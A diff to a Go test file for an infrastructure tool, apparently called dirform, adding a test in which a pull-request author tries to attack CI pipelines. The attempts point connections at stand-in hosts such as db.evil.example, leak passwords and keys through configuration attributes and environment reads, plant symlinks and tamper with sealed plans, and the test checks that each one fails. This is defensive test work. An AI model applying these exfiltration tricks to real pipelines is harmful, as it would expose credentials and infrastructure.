@@ -4,19 +4,24 @@ import (
 	"bytes"
 	"encoding/json"
 	"fmt"
+	"math/rand/v2"
 	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
+	"time"
 
 	"go.yaml.in/yaml/v3"
 
 	"github.com/dirform/dirform/providers/lab"
+	"github.com/dirform/dirform/state/quick"
 	"github.com/dirform/dirform/state/seal"
 	"github.com/dirform/dirform/state/store/storetest"
 )
@@ -181,7 +186,10 @@ func (d *team) script(clone, text string, env map[string]string, options ...stri
 	d.mu.Lock()
 	defer d.mu.Unlock()
 	d.printed.Write(b)
-	return cmd.ProcessState.ExitCode(), string(b)
+	if status = cmd.ProcessState.ExitCode(); status < 0 { // as the systems tell that a signal ended it
+		status = 137
+	}
+	return status, string(b)
 }
 
 // resolve puts values in place of what an expression names in each of an environment's texts.
@@ -267,8 +275,8 @@ func (d *team) gitHub(workflow, name, clone string, request int) (status int) {
 		}
 		values[kind+name] = value
 	}
-	if request > 0 {
-		write(t, d.store, "head-"+sha(request, "a"), sha(request, "b"))
+	if merge := "head-" + sha(request, "a"); request > 0 && name == "plan" {
+		write(t, d.store, merge, sha(request, "b"))
 	}
 	all := d.resolve(gitHubExpression, values, at[map[string]any](t, job, "env"))
 	for name, value := range map[string]string{"GITHUB_ACTIONS": "true", "GITHUB_SERVER_URL": "https://github.com",
@@ -407,6 +415,22 @@ func (d *team) wrote(what string, want bool, statuses []int, job func() int) {
 	}
 }
 
+// kill kills the commands of that name which the team's jobs are running.
+func (d *team) kill(command string) {
+	d.t.Helper()
+	found, err := filepath.Glob("/proc/[0-9]*/cmdline")
+	must(d.t, err)
+	for _, path := range found {
+		line, _ := os.ReadFile(path)
+		env, _ := os.ReadFile(filepath.Join(filepath.Dir(path), "environ"))
+		if bytes.HasPrefix(line, []byte("dirform\x00"+command+"\x00")) && bytes.Contains(env, []byte("STORE="+d.store+"\x00")) {
+			pid, err := strconv.Atoi(filepath.Base(filepath.Dir(path)))
+			must(d.t, err)
+			must(d.t, syscall.Kill(pid, syscall.SIGKILL))
+		}
+	}
+}
+
 // settled checks that nothing is left to do.
 func (d *team) settled(s system) {
 	d.t.Helper()
@@ -421,11 +445,23 @@ func (d *team) settled(s system) {
 
 // TestPipelines plays weeks of a team with each example's pipelines, and those who attack it by way of a pull request.
 func TestPipelines(t *testing.T) {
+	t.Parallel()
 	server := storetest.StartServer(t)
-	for _, s := range systems {
+	attacked := rand.IntN(len(systems)) // in the short form, since all their jobs give dirform the same
+	for i, s := range systems {
 		database := server.Database()
 		t.Run(s.example, func(t *testing.T) {
-			t.Run("story", func(t *testing.T) { playTeam(t, newTeam(t, s.example, database), s) })
+			t.Parallel()
+			d := newTeam(t, s.example, database)
+			playTeam(t, d, s)
+			if i == attacked || quick.Long() {
+				attackTeam(t, d, s)
+			}
+			for _, secret := range []string{d.settings["AD_PASSWORD"], d.settings["STATE_URL"], d.settings["DIRFORM_KEY"], jobToken, "gh-" + marker} {
+				if strings.Contains(d.printed.String(), secret) {
+					t.Errorf("a secret was printed: %s", secret)
+				}
+			}
 		})
 	}
 }
@@ -477,11 +513,109 @@ func playTeam(t *testing.T, d *team, s system) {
 		return max(first, second)
 	})
 	d.settled(s)
-	for _, secret := range []string{d.settings["AD_PASSWORD"], d.settings["STATE_URL"], d.settings["DIRFORM_KEY"], jobToken, "gh-" + marker} {
-		if strings.Contains(d.printed.String(), secret) {
-			t.Errorf("a secret was printed: %s", secret)
+
+	// a job is killed while it writes; the next one goes on
+	for i := range 5 {
+		must(t, d.lab.SetAD([]string{"linked", "leaver", "same", "lost", "quiet"}[i], "company", []string{"Contoso"}))
+	}
+	d.wrote("the sixth request", false, done, func() int { return s.plan(d, d.clone(nil), 6) })
+	before := d.writes()
+	d.lab.SetFaults(lab.Faults{Latency: 300 * time.Millisecond})
+	killed := make(chan int)
+	go func() { killed <- s.apply(d, d.clone(nil), 6) }()
+	for d.writes() == before {
+		time.Sleep(time.Millisecond)
+	}
+	d.kill("apply")
+	if status := <-killed; status == 0 {
+		t.Error("it was not killed")
+	}
+	d.lab.SetFaults(lab.Faults{})
+	if status := s.apply(d, d.clone(nil), 6); status != 0 {
+		t.Errorf("after it was killed: status %d", status)
+	}
+	d.settled(s)
+}
+
+// attackTeam is the author of a pull request who may write any file of it, but does not have the key.
+func attackTeam(t *testing.T, d *team, s system) {
+	failed := []int{1}
+	leak := "\nmapping \"leak\" {\n  scope = scope.staff\n  attributes {\n    jobTitle = %s\n  }\n}\n"
+	main, err := os.ReadFile(filepath.Join(d.example, "main.hcl"))
+	must(t, err)
+	hosts := func(old, now string) map[string]string {
+		if !strings.Contains(d.served, old) {
+			t.Fatalf("no %s", old)
+		}
+		return map[string]string{"providers.hcl": regexp.MustCompile(regexp.QuoteMeta(old)+`[^\n]*`).ReplaceAllString(d.served, now)}
+	}
+	const request = 66
+	for name, changed := range map[string]map[string]string{
+		"a domain controller of the author's": hosts("url      = \"ldaps", `url = "ldaps://dc1.evil.example"`),
+		"a tenant of the author's":            hosts("endpoint =", `endpoint = "https://graph.evil.example/v1.0"`),
+		"an authority of the author's":        hosts("authority =", `authority = "https://login.evil.example"`),
+		"a database of the author's":          hosts("url  = var.state_url", `url = "postgres://db.evil.example/d"`),
+		"two databases, one of them known":    hosts("url  = var.state_url", `url = "postgres://127.0.0.1,db.evil.example/d"`),
+		"a database in an option":             hosts("url  = var.state_url", `url = "postgres:///d?host=db.evil.example"`),
+		"the secret's address with more":      hosts("url  = var.state_url", `url = "${var.state_url}?host=db.evil.example"`),
+		"a password that is not sensitive":    {"main.hcl": string(main) + fmt.Sprintf(leak, "var.ad_password"), "providers.hcl": strings.ReplaceAll(d.served, "{ sensitive = true }", "{}")},
+		"the key in an attribute":             {"main.hcl": string(main) + fmt.Sprintf(leak, "var.dirform_key")},
+		"a part of it":                        {"main.hcl": string(main) + fmt.Sprintf(leak, "upper(substr(var.dirform_key, 0, 9))")},
+		"the environment":                     {"main.hcl": string(main) + fmt.Sprintf(leak, `env("DIRFORM_SECRET_ad_password")`)},
+		"a plan without encryption":           {"providers.hcl": regexp.MustCompile(`(?s)  encryption .*?  }\n`).ReplaceAllString(d.served, "")},
+		"a key of the author's":               hosts("key = var.dirform_key", `key = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="`),
+	} {
+		d.wrote(name, false, failed, func() int { return s.plan(d, d.clone(changed), request) })
+		if _, err := os.Stat(filepath.Join(d.store, d.artifact(request))); err == nil {
+			t.Errorf("%s: a plan was kept", name)
 		}
 	}
+
+	// links among the files of the request, where the job writes and reads
+	treasure := filepath.Join(t.TempDir(), "treasure")
+	must(t, os.WriteFile(treasure, []byte(marker+"-treasure = 1\n"), 0o600))
+	for _, name := range []string{"plan.txt", "plan.dfplan", "plan.md", "comment.md", "dirform-out", "dirform.dfstate", "drift.txt", "z.hcl"} {
+		clone := d.clone(nil)
+		must(t, os.Symlink(treasure, filepath.Join(clone, name)))
+		before := d.writes()
+		s.plan(d, clone, request+1)
+		if content, err := os.ReadFile(treasure); err != nil || string(content) != marker+"-treasure = 1\n" || d.writes() != before {
+			t.Errorf("by a link %s something else was written: %q, %v", name, content, err)
+		}
+	}
+	if strings.Contains(d.printed.String(), marker+"-treasure") {
+		t.Error("what a link leads to was printed")
+	}
+
+	// plans that the author made or changed
+	must(t, d.lab.SetAD("same", "title", []string{"Chief clerk"}))
+	d.wrote("the seventh request", false, []int{0}, func() int { return s.plan(d, d.clone(nil), 7) })
+	genuine, err := os.ReadFile(filepath.Join(d.store, d.artifact(7)))
+	must(t, err)
+	changed := bytes.Clone(genuine)
+	changed[len(changed)/2] ^= 1
+	for name, content := range map[string][]byte{"a changed plan": changed, "a plan cut off": genuine[:len(genuine)/2], "no plan": nil,
+		"a plan in the clear": []byte(`{"dirform_plan":{"format_version":"1.0"}}` + "\n"), "a plan of another key": sealedByOthers(t)} {
+		write(t, d.store, d.artifact(7), string(content))
+		d.wrote(name, false, failed, func() int { return s.apply(d, d.clone(nil), 7) })
+	}
+	// one that is genuine, of another request: what it holds and a fresh plan demands, which reviewers of that one saw
+	write(t, d.store, d.artifact(7), string(genuine))
+	d.wrote("the genuine plan", true, []int{0}, func() int { return s.apply(d, d.clone(nil), 7) })
+}
+
+// sealedByOthers is a file that is sealed with a key of somebody else.
+func sealedByOthers(t *testing.T) []byte {
+	t.Helper()
+	key, err := seal.NewKey()
+	must(t, err)
+	var b bytes.Buffer
+	w, err := seal.New(key).Writer(&b, seal.Plan)
+	must(t, err)
+	_, err = w.Write([]byte(`{"dirform_plan":{"format_version":"1.0"}}` + "\n"))
+	must(t, err)
+	must(t, w.Close())
+	return b.Bytes()
 }
 
 func must(t testing.TB, err error) {
